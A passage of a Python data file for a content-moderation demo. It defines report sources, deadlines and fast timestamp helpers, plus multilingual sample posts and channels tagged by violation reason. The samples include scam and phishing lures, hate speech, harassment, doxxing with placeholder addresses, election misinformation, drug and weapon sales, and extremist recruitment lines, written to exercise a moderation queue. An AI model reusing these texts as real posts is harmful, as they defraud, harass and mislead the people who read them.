"""The demo data's constants and content: shares, deadlines, the texts of every language
and reason, names, domains, media, hostile wrappings — and fast ISO times for them.

Data only (and the small clock that turns seconds into protocol times); `demo.py`
generates items from it, `demo_parts.py` precomputes its pools. See `demo.py` for why
the demo looks the way it does.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from functools import cache
from typing import Any


Json = dict[str, Any]

MINUTE = 60
HOUR = 3600
DAY = 86400

REASONS = (
    "spam", "scam_fraud", "hate_speech", "harassment", "violent_extremism", "csam",
    "self_harm", "graphic_violence", "illegal_goods", "ip_infringement",
    "privacy_doxxing", "impersonation", "election_misinfo", "other",
)
SOURCES = ("user_report", "automated", "trusted_flagger", "authority_order")
SHOWCASE_SIZE = 30

# Target share of each source among all reports (they need not sum to 1).
SOURCE_SHARES = {"user_report": 0.70, "automated": 0.18, "trusted_flagger": 0.08, "authority_order": 0.02}
CAMPAIGN_SHARE = 0.05
CHANNEL_SHARE = 0.15 / (1 - CAMPAIGN_SHARE)  # campaigns are posts
HOSTILE_TEXT_SHARE = 0.022  # hostile text, title or comment; hostile names add ~1%
HOSTILE_AUTHOR_SHARE = 0.01
BIG_BODY_SHARE = 1 / 5000
MASS_REPORT_SHARE = 0.001
NEW_AUTHOR_SHARE = 0.25  # the author pool ends near n/4: profiles have several items
MEDIA_SHARE = 0.25

# Ages (seconds before now) at which a lead report arrives, per source. User reports
# run a little past their 72 h deadline, trusted flaggers past 24 h, TCO orders past
# their hour, so every demo has some overdue items and some due within the hour.
USER_MAX_AGE = 80 * HOUR
FLAGGER_MAX_AGE = 30 * HOUR
TCO_MAX_AGE = 80 * MINUTE
ORDER_MAX_AGE = 30 * HOUR


# ---------------------------------------------------------------------------
# Fast ISO times. A million items need millions of timestamps; datetime.isoformat
# costs about a microsecond each. A cached hour prefix plus a 3,600-entry table of
# "MM:SSZ" (small enough to stay in the CPU cache) costs a fifth of that.


@cache
def _minute_seconds() -> tuple[str, ...]:
    return tuple(f"{s // 60:02d}:{s % 60:02d}Z" for s in range(HOUR))


HOURS = tuple(f"T{h:02d}:" for h in range(24))


def _iso_formatter(now: int) -> Callable[[int], str]:
    """Whole-second epoch times as protocol strings: `2026-11-28T19:34:00Z`.

    A closure rather than a method: its caches are local variables, not attributes, on
    the hottest call of the generator.
    """
    hours: dict[int, str] = {}
    days: dict[int, str] = {}
    minute_seconds = _minute_seconds()
    cached_from = (now - 500 * DAY) // HOUR  # account creation times span years: not worth caching

    def iso(t: int) -> str:
        hour = t // HOUR
        prefix = hours.get(hour)
        if prefix is None:
            day = hour // 24
            date = days.get(day)
            if date is None:
                date = days[day] = time.strftime("%Y-%m-%d", time.gmtime(day * DAY))
            prefix = date + HOURS[hour % 24]
            if hour >= cached_from:
                hours[hour] = prefix
        return prefix + minute_seconds[t - hour * HOUR]

    return iso


class _Clock:
    """`now` as whole seconds, and times relative to it as protocol strings."""

    def __init__(self, now: float) -> None:
        self.now = int(now)
        self.year = time.gmtime(self.now).tm_year
        self.iso = _iso_formatter(self.now)

    def ago(self, seconds: int) -> str:
        return self.iso(self.now - seconds)


# ---------------------------------------------------------------------------
# Content. Each text has exactly one slot, {link} or {at}, filled per item with a
# random link slug or @mention: the server groups items whose text normalises the
# same into campaigns, so ordinary items must differ in letters, not only in digits.
#
# tag: "bad" violates the reason; "benign" is a false positive reported under it;
# "political" is lawful speech that some authorities order removed.

POSTS: tuple[tuple[str, str, str, str], ...] = (
    # English
    ("en", "spam", "bad", "Get 10,000 followers in 24 hours 🔥 cheapest price guaranteed → {link}"),
    ("en", "spam", "bad", "I made $3,200 this week working from home, ask me how! {link}"),
    ("en", "spam", "bad", "FREE phone giveaway!! Like, share and register here: {link}"),
    ("en", "spam", "bad", "Lonely tonight? Singles near you are waiting 😘 {link}"),
    ("en", "scam_fraud", "bad", "Your parcel could not be delivered. Pay the $1.99 redelivery fee here: {link}"),
    ("en", "scam_fraud", "bad", "Congratulations! You were selected for a $1,000 gift card. Claim within 24h: {link}"),
    ("en", "scam_fraud", "bad", "Official exchange giveaway: send 0.1 BTC and get 0.2 BTC back! Verify at {link}"),
    ("en", "scam_fraud", "bad", "Hi mum, I lost my phone, this is my new account. Can you send me money today? Ask {at}"),
    ("en", "harassment", "bad", "{at} nobody likes you, just delete your account already"),
    ("en", "harassment", "bad", "Everyone go report {at} and flood their DMs until they quit"),
    ("en", "harassment", "bad", "{at} I know where you work. Watch yourself."),
    ("en", "hate_speech", "bad", "People like {at} and their kind don't belong in this country. Send them all back."),
    ("en", "hate_speech", "bad", "Those people are ruining our town, they are not like us. Spread the word {link}"),
    ("en", "violent_extremism", "bad", "The new issue of our magazine is out. Read and share before they delete it: {link}"),
    ("en", "violent_extremism", "bad", "Brothers, the time for words is over. Join us, details in the channel {link}"),
    ("en", "csam", "bad", "album {link}"),
    ("en", "self_harm", "bad", "Nobody would even notice if I was gone. {at} thanks for everything, goodbye."),
    ("en", "graphic_violence", "bad", "Uncensored video of the crash on the highway this morning, no blur {link}"),
    ("en", "graphic_violence", "bad", "Footage of the fight outside the club last night 😳 {link}"),
    ("en", "illegal_goods", "bad", "Pills, no prescription needed, discreet shipping worldwide. Telegram {at}"),
    ("en", "illegal_goods", "bad", "Selling handguns, no paperwork, cash only. DM {at}"),
    ("en", "illegal_goods", "bad", "Fake IDs and driving licences, all countries, scannable: {link}"),
    ("en", "ip_infringement", "bad", "Watch the new blockbuster full movie in HD, free, no signup ▶ {link}"),
    ("en", "ip_infringement", "bad", "All premium courses leaked, download free: {link}"),
    ("en", "privacy_doxxing", "bad", "This is where {at} lives: 12 Example Road, Springfield. Phone +1 555 0142. You know what to do."),
    ("en", "privacy_doxxing", "bad", "Found the real name and workplace of {at}, posting everything in the replies"),
    ("en", "impersonation", "bad", "Official Support here. Your account will be suspended, verify your identity now: {link}"),
    ("en", "impersonation", "bad", "I am the real owner of this brand, the other account is fake. Send orders to {at}"),
    ("en", "election_misinfo", "bad", "Reminder: because of high turnout, opposition voters vote on Wednesday this year. {link}"),
    ("en", "election_misinfo", "bad", "You can now vote by text message! Send your choice to 55555 and share with {at}"),
    ("en", "election_misinfo", "bad", "BREAKING: polling stations in the north are closed tomorrow, don't bother going {link}"),
    ("en", "harassment", "benign", "{at} you absolute legend, I'm going to destroy you at chess next time 😂"),
    ("en", "spam", "benign", "Homemade lasagna for the weekend, full recipe here {link}"),
    ("en", "hate_speech", "benign", "Our team got robbed again, that referee should be banned for life 😤 {at}"),
    ("en", "other", "benign", "Sunset at the beach today 🌅 {at}"),
    ("en", "graphic_violence", "benign", "Butchery class today: how to break down a whole chicken {link}"),
    ("en", "other", "benign", "Can't believe it's been 10 years since we met {at} ❤️"),
    # German
    ("de", "spam", "bad", "Verdiene 500 € am Tag von zu Hause aus! Keine Erfahrung nötig 👉 {link}"),
    ("de", "scam_fraud", "bad", "Ihr Paket konnte nicht zugestellt werden. Bitte zahlen Sie 1,99 € Zollgebühr: {link}"),
    ("de", "scam_fraud", "bad", "Hallo Mama, das ist mein neuer Account. Kannst du mir heute Geld überweisen? Schreib {at}"),
    ("de", "hate_speech", "bad", "Diese Leute gehören nicht hierher. Schickt sie alle zurück! {link}"),
    ("de", "harassment", "bad", "{at} du bist so erbärmlich, lösch einfach deinen Account"),
    ("de", "election_misinfo", "bad", "Achtung: Briefwahlstimmen werden dieses Jahr nicht gezählt! Geht am Montag wählen {link}"),
    ("de", "violent_extremism", "bad", "Die neue Ausgabe ist da. Lesen und teilen, bevor sie gelöscht wird: {link}"),
    ("de", "illegal_goods", "bad", "Tabletten ohne Rezept, diskreter Versand. Telegram: {at}"),
    ("de", "spam", "benign", "Endlich Wochenende! Wer kommt mit zum Flohmarkt? {at}"),
    # French
    ("fr", "spam", "bad", "Gagnez 300 € par jour depuis chez vous, c'est simple ! 👉 {link}"),
    ("fr", "scam_fraud", "bad", "Votre compte santé a été suspendu. Mettez à jour vos informations ici : {link}"),
    ("fr", "hate_speech", "bad", "Ces gens-là ne sont pas comme nous, qu'ils rentrent chez eux. {at}"),
    ("fr", "harassment", "bad", "{at} t'es vraiment qu'un raté, personne ne veut de toi ici"),
    ("fr", "election_misinfo", "bad", "Info : à cause de l'affluence, certains électeurs votent lundi cette année ! {link}"),
    ("fr", "ip_infringement", "bad", "Film complet en HD gratuit, sans inscription ▶ {link}"),
    ("fr", "violent_extremism", "bad", "Rejoignez nos frères, le moment est venu. Tout est expliqué ici : {link}"),
    ("fr", "spam", "benign", "Ma tarte aux pommes du dimanche 🍎 la recette ici {link}"),
    # Spanish
    ("es", "spam", "bad", "¡Gana dinero desde casa sin experiencia! Escríbeme {at}"),
    ("es", "scam_fraud", "bad", "Su cuenta bancaria ha sido bloqueada. Verifique sus datos aquí: {link}"),
    ("es", "harassment", "bad", "{at} eres un payaso, nadie te soporta, vete de la red"),
    ("es", "hate_speech", "bad", "Esa gente no pertenece a nuestro país, que se vayan todos. {link}"),
    ("es", "illegal_goods", "bad", "Vendo pastillas sin receta, envío discreto a toda España. {at}"),
    ("es", "election_misinfo", "bad", "¡Atención! Este año se puede votar por mensaje, solo envía tu voto a {at}"),
    ("es", "privacy_doxxing", "bad", "Esta es la dirección de {at}: Calle Ejemplo 12, 3ºB. Ya sabéis qué hacer."),
    ("es", "harassment", "benign", "Qué partidazo ayer 🔥 {at} te voy a matar en la revancha jaja"),
    # Portuguese (Brazil)
    ("pt", "spam", "bad", "Ganhe R$ 500 por dia trabalhando em casa! Chama no zap {at}"),
    ("pt", "scam_fraud", "bad", "Você ganhou um Pix de R$ 1.000! Resgate agora: {link}"),
    ("pt", "election_misinfo", "bad", "URGENTE: as urnas foram adulteradas, não vá votar no domingo! {link}"),
    ("pt", "harassment", "bad", "{at} você é ridícula, ninguém te aguenta, sai da internet"),
    ("pt", "hate_speech", "bad", "Essa gente não presta, tem que expulsar todos daqui. {link}"),
    ("pt", "ip_infringement", "bad", "Todos os jogos do campeonato ao vivo e grátis, sem travar ▶ {link}"),
    ("pt", "spam", "benign", "Bom dia grupo! ☀️ café pronto {at}"),
    # Polish
    ("pl", "spam", "bad", "Zarabiaj 2000 zł tygodniowo w domu! Szczegóły: {link}"),
    ("pl", "scam_fraud", "bad", "Twoja paczka czeka na dopłatę 1,99 zł. Zapłać tutaj: {link}"),
    ("pl", "hate_speech", "bad", "Tacy jak oni nie powinni tu mieszkać. Wyrzucić ich wszystkich! {at}"),
    ("pl", "harassment", "bad", "{at} jesteś żałosny, nikt cię tu nie chce"),
    ("pl", "election_misinfo", "bad", "Uwaga! W tym roku głosujemy przez internet, wystarczy kliknąć: {link}"),
    ("pl", "harassment", "benign", "Ale mecz wczoraj! Nasza drużyna pokazała klasę 💪 {at}"),
    # Turkish
    ("tr", "spam", "bad", "Günde 1000 TL kazan, evden çalış! Detaylar: {link}"),
    ("tr", "scam_fraud", "bad", "Tebrikler! 5.000 TL hediye çeki kazandınız. Hemen alın: {link}"),
    ("tr", "harassment", "bad", "{at} sen tam bir zavallısın, kimse seni burada istemiyor"),
    ("tr", "hate_speech", "bad", "Bu insanlar bizden değil, hepsi gitsin! {link}"),
    ("tr", "illegal_goods", "bad", "Reçetesiz ilaç satılır, gizli kargo. İletişim {at}"),
    ("tr", "other", "political", "Belediyedeki ihale usulsüzlüğünü belgeleriyle yazdım, okuyun ve paylaşın: {link}"),
    ("tr", "spam", "benign", "Akşam yemeğinde mantı yaptık 😋 tarifi burada {link}"),
    # Russian
    ("ru", "spam", "bad", "Заработок от 5000 ₽ в день без вложений! Пиши {at}"),
    ("ru", "scam_fraud", "bad", "Ваша карта заблокирована. Для разблокировки перейдите по ссылке: {link}"),
    ("ru", "election_misinfo", "bad", "Срочно! Голосование перенесли на понедельник, в воскресенье не ходите {link}"),
    ("ru", "illegal_goods", "bad", "Продам документы любой страны: права, паспорта. Пишите {at}"),
    ("ru", "harassment", "bad", "{at} ты жалкий неудачник, удали свой аккаунт"),
    ("ru", "hate_speech", "bad", "Этим людям здесь не место, пусть убираются! {link}"),
    ("ru", "other", "political", "Нет войне. Выходите в воскресенье на мирную акцию, подробности: {link}"),
    # Ukrainian
    ("uk", "scam_fraud", "bad", "Вітаємо! Вам нараховано виплату 6500 грн. Оформіть тут: {link}"),
    ("uk", "spam", "bad", "Заробіток онлайн від 1000 грн на день! Пиши {at}"),
    ("uk", "harassment", "bad", "{at} ти нікчема, тебе тут ніхто не чекає"),
    ("uk", "other", "benign", "Сьогодні зварила борщ за бабусиним рецептом ❤️ {at}"),
    # Arabic
    ("ar", "spam", "bad", "اربح 500 دولار يومياً من المنزل! تواصل معي {at}"),
    ("ar", "scam_fraud", "bad", "مبروك! لقد ربحت جائزة قيمتها 10,000 ريال. اضغط هنا للاستلام: {link}"),
    ("ar", "violent_extremism", "bad", "انضموا إلينا يا إخوة، لقد حان الوقت. التفاصيل في القناة {link}"),
    ("ar", "hate_speech", "bad", "هؤلاء الناس لا مكان لهم بيننا، يجب طردهم جميعاً {at}"),
    ("ar", "harassment", "bad", "{at} أنت فاشل ولا أحد يريدك هنا"),
    ("ar", "illegal_goods", "bad", "أدوية بدون وصفة طبية، توصيل سري. راسلني {at}"),
    ("ar", "spam", "benign", "صباح الخير يا أصدقاء ☕ {at}"),
    # Persian (ZWNJ inside words is ordinary Persian orthography, not an attack)
    ("fa", "spam", "bad", "کسب درآمد روزانه از خانه بدون سرمایه! پیام بده {at}"),
    ("fa", "scam_fraud", "bad", "حساب بانکی شما مسدود شده است. برای فعال‌سازی وارد شوید: {link}"),
    ("fa", "harassment", "bad", "{at} تو یک بازنده‌ای، هیچ‌کس اینجا تو را نمی‌خواهد"),
    ("fa", "hate_speech", "bad", "این آدم‌ها جایی بین ما ندارند، همه باید بروند {link}"),
    ("fa", "other", "benign", "امروز با خانواده رفتیم کوه، هوا عالی بود 🏔️ {at}"),
    # Hindi
    ("hi", "spam", "bad", "घर बैठे रोज़ ₹2000 कमाएं! अभी जुड़ें {link}"),
    ("hi", "scam_fraud", "bad", "बधाई हो! आपने ₹50,000 का इनाम जीता है। यहां क्लिक करें: {link}"),
    ("hi", "election_misinfo", "bad", "ज़रूरी सूचना: इस बार वोटिंग मैसेज से होगी, अपना वोट {at} पर भेजें"),
    ("hi", "harassment", "bad", "{at} तुम किसी काम के नहीं हो, यहां से चले जाओ"),
    ("hi", "self_harm", "bad", "अब और नहीं सह सकता, सबको अलविदा {at}"),
    ("hi", "other", "benign", "आज माँ ने गाजर का हलवा बनाया 😋 {at}"),
    # Chinese
    ("zh", "spam", "bad", "日赚500元，在家兼职，无需经验！加我 {at}"),
    ("zh", "scam_fraud", "bad", "您的账户存在异常，请立即点击链接验证身份：{link}"),
    ("zh", "illegal_goods", "bad", "出售各类证件，包过，联系 {at}"),
    ("zh", "ip_infringement", "bad", "最新电影高清免费在线看，无需注册 ▶ {link}"),
    ("zh", "other", "benign", "今天做了红烧肉，太香了 😋 {at}"),
    # Japanese
    ("ja", "spam", "bad", "スマホだけで月収100万円！詳しくはこちら {link}"),
    ("ja", "scam_fraud", "bad", "【重要】お客様のアカウントが一時停止されました。こちらから確認してください：{link}"),
    ("ja", "harassment", "bad", "{at} お前なんか誰も必要としてない、消えろ"),
    ("ja", "privacy_doxxing", "bad", "{at} の本名と住所を晒します。拡散希望"),
    ("ja", "other", "benign", "今日のお弁当です🍱 {at}"),
    # Korean
    ("ko", "spam", "bad", "하루 30만원 재택 부업! 문의는 {at}"),
    ("ko", "scam_fraud", "bad", "[국제발신] 고객님의 택배가 주소 불명으로 보관 중입니다. 확인: {link}"),
    ("ko", "election_misinfo", "bad", "속보: 이번 선거는 모바일로도 투표 가능합니다! 신청 {link}"),
    ("ko", "harassment", "bad", "{at} 너 진짜 한심하다, 여기서 꺼져"),
    ("ko", "other", "benign", "오늘 점심은 김치찌개 🍲 {at}"),
    # Emoji only ("und": undetermined language)
    ("und", "spam", "bad", "💰💰💰🚀🚀 {link} 🔥🔥"),
    ("und", "harassment", "bad", "{at} 🤡🤡🤡🖕"),
    ("und", "other", "benign", "😂😂😂 {at}"),
    # More languages for the reasons above, so no reason is English-only
    ("de", "graphic_violence", "bad", "Unzensiertes Video vom Unfall auf der Autobahn heute Morgen {link}"),
    ("es", "graphic_violence", "bad", "Video sin censura del accidente de esta mañana en la autopista {link}"),
    ("pt", "graphic_violence", "bad", "Vídeo sem censura da briga na saída da festa ontem 😳 {link}"),
    ("ru", "graphic_violence", "bad", "Видео драки у клуба вчера ночью без цензуры {link}"),
    ("ar", "graphic_violence", "bad", "فيديو الحادث كاملاً بدون تشويش {link}"),
    ("tr", "graphic_violence", "bad", "Dün geceki kavganın sansürsüz videosu {link}"),
    ("de", "impersonation", "bad", "Offizieller Kundenservice: Ihr Konto wird gesperrt, bestätigen Sie jetzt Ihre Daten: {link}"),
    ("es", "impersonation", "bad", "Soporte oficial: tu cuenta será suspendida, verifica tu identidad aquí: {link}"),
    ("pt", "impersonation", "bad", "Suporte oficial: sua conta será bloqueada, confirme seus dados: {link}"),
    ("fr", "impersonation", "bad", "Service client officiel : votre compte sera suspendu, vérifiez votre identité : {link}"),
    ("ru", "impersonation", "bad", "Служба поддержки: ваш аккаунт будет заблокирован, подтвердите данные: {link}"),
    ("ar", "impersonation", "bad", "الدعم الرسمي: سيتم إيقاف حسابك، أكّد بياناتك الآن: {link}"),
    ("de", "csam", "bad", "Album {link}"),
    ("es", "csam", "bad", "álbum {link}"),
    ("pt", "csam", "bad", "álbum novo {link}"),
    ("ru", "csam", "bad", "альбом {link}"),
    ("es", "self_harm", "bad", "Ya no puedo más. Gracias por todo {at}, adiós."),
    ("pt", "self_harm", "bad", "Não aguento mais. Obrigada por tudo {at}, adeus."),
    ("de", "self_harm", "bad", "Ich kann nicht mehr. Danke für alles {at}, macht's gut."),
    ("ru", "self_harm", "bad", "Я больше не могу. Спасибо за всё {at}, прощайте."),
    ("ar", "self_harm", "bad", "لم أعد أحتمل. شكراً لكل شيء {at}، وداعاً."),
    ("ja", "self_harm", "bad", "もう限界です。{at} 今までありがとう、さようなら。"),
    ("de", "privacy_doxxing", "bad", "Hier wohnt {at}: Musterstraße 12, 12345 Musterstadt. Ihr wisst, was zu tun ist."),
    ("ru", "privacy_doxxing", "bad", "Вот адрес {at}: ул. Примерная, д. 12. Сами знаете, что делать."),
    ("pt", "privacy_doxxing", "bad", "Esse é o endereço de {at}: Rua Exemplo, 12. Vocês sabem o que fazer."),
    ("ko", "privacy_doxxing", "bad", "{at} 실명이랑 주소 공개합니다. 퍼뜨려 주세요"),
    ("tr", "privacy_doxxing", "bad", "{at} adlı kişinin ev adresi: Örnek Sokak No: 12. Gereğini yapın."),
    ("es", "ip_infringement", "bad", "Todos los partidos de la liga en directo y gratis ▶ {link}"),
    ("de", "ip_infringement", "bad", "Alle neuen Filme kostenlos in HD, ohne Anmeldung ▶ {link}"),
    ("ru", "ip_infringement", "bad", "Новые фильмы бесплатно в HD без регистрации ▶ {link}"),
    ("ar", "ip_infringement", "bad", "شاهد أحدث الأفلام مجاناً بجودة عالية ▶ {link}"),
    ("hi", "ip_infringement", "bad", "नई फिल्में मुफ्त में HD में देखें ▶ {link}"),
    ("ja", "ip_infringement", "bad", "最新映画を無料で視聴 ▶ {link}"),
    ("es", "violent_extremism", "bad", "Hermanos, ha llegado la hora. Únete, todo está en el canal {link}"),
    ("tr", "violent_extremism", "bad", "Kardeşler, vakit geldi. Bize katılın, detaylar kanalda {link}"),
    ("ru", "violent_extremism", "bad", "Братья, время слов прошло. Присоединяйтесь, подробности в канале {link}"),
)

CHANNELS: tuple[tuple[str, str, str, str, str], ...] = (
    ("en", "spam", "bad", "Crypto Signals VIP 💎", "Daily pump signals, 500% guaranteed. Join the VIP group: {link}"),
    ("en", "scam_fraud", "bad", "Investment Club Official", "Double your money in 7 days. Admin {at} answers all questions"),
    ("en", "illegal_goods", "bad", "Pharmacy Express 24/7", "Meds without prescription, worldwide shipping. Order via {at}"),
    ("en", "ip_infringement", "bad", "Movies HD Free", "All new releases in HD, no ads, new links daily {link}"),
    ("en", "violent_extremism", "bad", "The Awakening", "News for true believers. Backup channel: {link}"),
    ("en", "impersonation", "bad", "Customer Support Team", "Official help desk. Send us your login details to restore your account {at}"),
    ("en", "privacy_doxxing", "bad", "Exposed", "Real names of people who annoyed us. Submit yours via {link}"),
    ("en", "csam", "bad", "pics exchange", "invite only, ask {at}"),
    ("en", "other", "benign", "Dog Lovers Club 🐶", "Share photos of your dogs! Rule one: be kind. Admin {at}"),
    ("de", "election_misinfo", "bad", "Wahrheit Jetzt", "Was die Medien verschweigen. Backup-Kanal: {link}"),
    ("de", "spam", "bad", "Schnell Reich Werden", "Passives Einkommen mit Krypto. Fragen an {at}"),
    ("ru", "illegal_goods", "bad", "Документы Быстро", "Права, паспорта, дипломы. Пишите {at}"),
    ("ru", "other", "political", "Новости без цензуры", "Правда о войне. Резервный канал: {link}"),
    ("uk", "spam", "bad", "Заробіток Онлайн", "Легкі гроші щодня, пиши {at}"),
    ("ar", "violent_extremism", "bad", "أخبار الجبهة", "آخر الأخبار والإصدارات. القناة الاحتياطية: {link}"),
    ("fa", "spam", "bad", "فروش فالوور", "فالوور ایرانی و خارجی با قیمت مناسب {at}"),
    ("tr", "ip_infringement", "bad", "Bedava Dizi İzle", "Tüm diziler HD ve reklamsız {link}"),
    ("pt", "spam", "bad", "Sinais Cripto 💰", "Lucro garantido todo dia, entra no grupo {link}"),
    ("es", "scam_fraud", "bad", "Ofertas Increíbles", "Productos de marca con 90% de descuento {link}"),
    ("hi", "scam_fraud", "bad", "क्रिकेट टिप्स 100% पक्की", "हर मैच की पक्की टिप, संपर्क करें {at}"),
    ("zh", "ip_infringement", "bad", "免费电影资源", "每日更新最新电影 {link}"),
    ("ja", "spam", "bad", "副業で稼ぐ会", "誰でも簡単に稼げる方法を紹介 {at}"),
    ("ko", "ip_infringement", "bad", "무료 웹툰 보기", "모든 유료 웹툰 무료 공개 {link}"),
    ("pl", "illegal_goods", "bad", "Tanie Leki Bez Recepty", "Wysyłka dyskretna, pisz {at}"),
    ("fr", "scam_fraud", "bad", "Paris Sportifs Gagnants", "Pronostics sûrs à 100 %, rejoins le VIP {link}"),
    ("es", "impersonation", "bad", "Soporte Técnico Oficial", "Atención al cliente 24h. Envíanos tu usuario y contraseña {at}"),
    ("pt", "privacy_doxxing", "bad", "Exposed BR", "Nomes e endereços de quem nos irritou. Mande o seu: {link}"),
    ("pt", "graphic_violence", "bad", "Vídeos Sem Censura", "Acidentes e brigas reais, sem corte {link}"),
    ("ar", "illegal_goods", "bad", "صيدلية بدون وصفة", "كل الأدوية بدون وصفة، توصيل سري {at}"),
    ("de", "violent_extremism", "bad", "Das Erwachen", "Nachrichten für wahre Gläubige. Ersatzkanal: {link}"),
    ("fr", "other", "benign", "Club Jardinage 🌱", "Partagez vos potagers ! Admin {at}"),
    ("es", "other", "benign", "Recetas de la Abuela", "Recetas caseras todos los días, admin {at}"),
    ("tr", "other", "political", "Sansürsüz Haber", "Belediyedeki yolsuzluk haberleri. Yedek kanal: {link}"),
    ("hi", "election_misinfo", "bad", "चुनाव सच", "वोटिंग की असली तारीख यहां जानें {link}"),
    ("ru", "csam", "bad", "обмен фото", "только по приглашению, пишите {at}"),
)

LANGUAGE_WEIGHTS = {
    "en": 30, "es": 9, "pt": 8, "de": 6, "fr": 6, "ru": 6, "ar": 6, "tr": 5, "hi": 5,
    "pl": 3, "uk": 3, "fa": 3, "zh": 3, "ja": 3, "ko": 2, "und": 2,
}

# How often each source names each reason: automated flags find spam, hotlines find csam
# and hate, authorities order removal of terrorist content (and, in some countries,
# of political speech).
REASON_WEIGHTS: dict[str, dict[str, float]] = {
    "user_report": {
        "spam": 20, "scam_fraud": 14, "harassment": 16, "hate_speech": 12, "other": 10,
        "election_misinfo": 5, "illegal_goods": 4, "ip_infringement": 3, "privacy_doxxing": 3,
        "impersonation": 4, "violent_extremism": 2, "graphic_violence": 3, "self_harm": 2, "csam": 0.5,
    },
    "automated": {
        "spam": 35, "scam_fraud": 15, "hate_speech": 10, "harassment": 8, "graphic_violence": 6,
        "other": 8, "violent_extremism": 5, "csam": 2, "ip_infringement": 6, "illegal_goods": 3,
        "self_harm": 2,
    },
    "trusted_flagger": {
        "csam": 12, "hate_speech": 20, "violent_extremism": 12, "scam_fraud": 15, "ip_infringement": 15,
        "election_misinfo": 10, "illegal_goods": 8, "privacy_doxxing": 4, "impersonation": 4,
    },
    "authority_order": {
        "violent_extremism": 40, "illegal_goods": 12, "hate_speech": 14, "privacy_doxxing": 6,
        "election_misinfo": 10, "ip_infringement": 6, "other": 8, "csam": 4,
    },
}
SOURCE_TAGS = {
    "user_report": frozenset({"bad", "benign", "political"}),
    "automated": frozenset({"bad", "benign"}),
    "trusted_flagger": frozenset({"bad"}),
    "authority_order": frozenset({"bad", "political"}),
}

MODELS = {
    "spam": ("spam-clf-v7",), "scam_fraud": ("scam-detect-v4", "spam-clf-v7"),
    "hate_speech": ("hate-xlmr-v5",), "harassment": ("tox-bert-v9",),
    "violent_extremism": ("tvec-hash-v2",), "csam": ("csam-hash-v1",),
    "self_harm": ("selfharm-clf-v2",), "graphic_violence": ("gore-img-v3",),
    "illegal_goods": ("goods-clf-v3",), "ip_infringement": ("content-id-v6",),
    "privacy_doxxing": ("pii-ner-v2",), "impersonation": ("impostor-v1",),
    "election_misinfo": ("civic-llm-v2",), "other": ("nsfw-img-v3",),
}
HASH_MODELS = frozenset({"tvec-hash-v2", "csam-hash-v1", "content-id-v6"})

# Invented organisations, modelled on INHOPE-member hotlines and DSA trusted flaggers.
FLAGGERS = {
    "csam": ("Kinderveilig Meldpunt (NL)", "Alerte Enfance en Ligne (FR)", "Safe Web Hotline Ireland", "Linea Sicura Minori (IT)"),
    "hate_speech": ("Netzwacht Beschwerdestelle (DE)", "Observatorio Odio Digital (ES)", "Fundacja Czysta Sieć (PL)"),
    "violent_extremism": ("Netzwacht Beschwerdestelle (DE)", "Counter-Extremism Monitor Europe"),
    "harassment": ("Digital Dignity Helpline (AT)",),
    "privacy_doxxing": ("Digital Dignity Helpline (AT)",),
    "scam_fraud": ("Consumer Fraud Watch Europe",),
    "spam": ("Consumer Fraud Watch Europe",),
    "impersonation": ("Consumer Fraud Watch Europe",),
    "ip_infringement": ("Creative Works Protection Association",),
    "election_misinfo": ("European Fact-Check Network",),
    "illegal_goods": ("Safe Markets Online Coalition",),
}
DEFAULT_FLAGGER = ("Netzwacht Beschwerdestelle (DE)",)

EU = frozenset({"DE", "FR", "AT", "IT", "ES", "NL", "PL", "IE"})
TCO_BASIS = "Regulation (EU) 2021/784 Art. 3"
COUNTRY_WEIGHTS = {"DE": 15, "FR": 12, "AT": 5, "IT": 8, "ES": 8, "NL": 6, "PL": 6, "IE": 5, "BR": 10, "IN": 10, "TR": 8, "RU": 7}
# Competent authorities for terrorist-content removal orders, per EU country.
TCO_AUTHORITIES = {
    "DE": "Bundeskriminalamt", "FR": "OCLCTIC (Pharos)", "AT": "Direktion Staatsschutz und Nachrichtendienst",
    "IT": "Polizia Postale e delle Comunicazioni", "ES": "CITCO", "NL": "ATKM", "PL": "Agencja Bezpieczeństwa Wewnętrznego",
    "IE": "An Garda Síochána",
}
DSA9 = "Regulation (EU) 2022/2065 Art. 9; "
# (authority, legal basis, reference prefix) for other orders.
ORDERS = {
    "DE": (("Landgericht Berlin", DSA9 + "§ 130 StGB", "LGB"),),
    "FR": (("Tribunal judiciaire de Paris", DSA9 + "Loi n° 2004-575 (LCEN) art. 6", "TJP"),),
    "AT": (("KommAustria", DSA9 + "§ 283 StGB", "KOA"),),
    "IT": (("AGCOM", DSA9 + "Legge 93/2023", "AGC"),),
    "ES": (("Audiencia Nacional", DSA9 + "Código Penal art. 510", "AN"),),
    "NL": (("Openbaar Ministerie", DSA9 + "Wetboek van Strafvordering art. 125p", "OM"),),
    "PL": (("Prokuratura Krajowa", DSA9 + "Kodeks karny art. 256", "PK"),),
    "IE": (("Coimisiún na Meán", DSA9 + "Online Safety and Media Regulation Act 2022", "CNM"),),
    "BR": (("Tribunal Superior Eleitoral", "Resolução TSE nº 23.610/2019 art. 9-E", "TSE"),
           ("Supremo Tribunal Federal", "Lei 12.965/2014 (Marco Civil) art. 19", "STF")),
    "IN": (("Ministry of Electronics and Information Technology", "Information Technology Act 2000, s. 69A", "MEITY"),),
    "TR": (("Bilgi Teknolojileri ve İletişim Kurumu (BTK)", "Law No. 5651 Art. 8/A", "BTK"),
           ("Ankara 3. Sulh Ceza Hakimliği", "Law No. 5651 Art. 9", "SCH")),
    "RU": (("Roskomnadzor", "Federal Law No. 149-FZ Art. 15.3", "RKN"),
           ("Prosecutor General's Office", "Federal Law No. 149-FZ Art. 15.3", "GP")),
}
# An order about content in a country's language usually comes from that country.
LANGUAGE_COUNTRY = {"de": "DE", "fr": "FR", "es": "ES", "pt": "BR", "pl": "PL", "tr": "TR", "ru": "RU", "hi": "IN"}

USER_COMMENTS = {
    "spam": ("spam", "this account posts the same thing everywhere", "bot", "Spam!!"),
    "scam_fraud": ("scam, they took my money", "phishing link", "fake giveaway", "Betrug!", "arnaque", "estafa", "golpe", "мошенники", "احتيال", "詐欺です"),
    "hate_speech": ("racist", "hate speech against migrants", "this is hateful", "Hetze"),
    "harassment": ("he keeps harassing me", "this is bullying", "they are targeting my friend", "acoso"),
    "violent_extremism": ("terrorist propaganda", "recruiting for extremists"),
    "csam": ("this involves a child, please remove", "child safety concern"),
    "self_harm": ("I'm worried about this person", "please check on them"),
    "graphic_violence": ("very violent video, no warning", "disturbing, no content warning"),
    "illegal_goods": ("selling drugs", "selling weapons", "fake documents"),
    "ip_infringement": ("pirated content", "this is my video, they stole it"),
    "privacy_doxxing": ("this is my address!!", "posting private info"),
